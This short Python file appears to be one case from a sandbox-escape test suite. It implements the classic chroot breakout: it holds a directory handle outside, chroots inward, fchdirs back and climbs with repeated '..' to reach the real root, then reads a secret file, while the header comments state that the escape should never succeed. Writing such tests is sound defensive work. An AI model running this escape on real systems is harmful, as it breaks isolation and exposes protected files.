# attack: Leaves its root by chroot into a folder while an open folder stays outside, then climbs from there.
# hurts: Shows files outside.
# never: chroot: None|chroot: 0
# ends: returns
import os

from _raw import attempt, read_file, said


def attack(target):
    os.makedirs("deeper", exist_ok=True)
    outside = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    tried = [said("chroot", "deeper"), attempt("chroot", os.chroot, "/proc/self/cwd/deeper")]
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    tried += [attempt("chroot", os.chroot, "."), attempt("read", read_file, target["secret_file"].lstrip("/"))]
    return tried
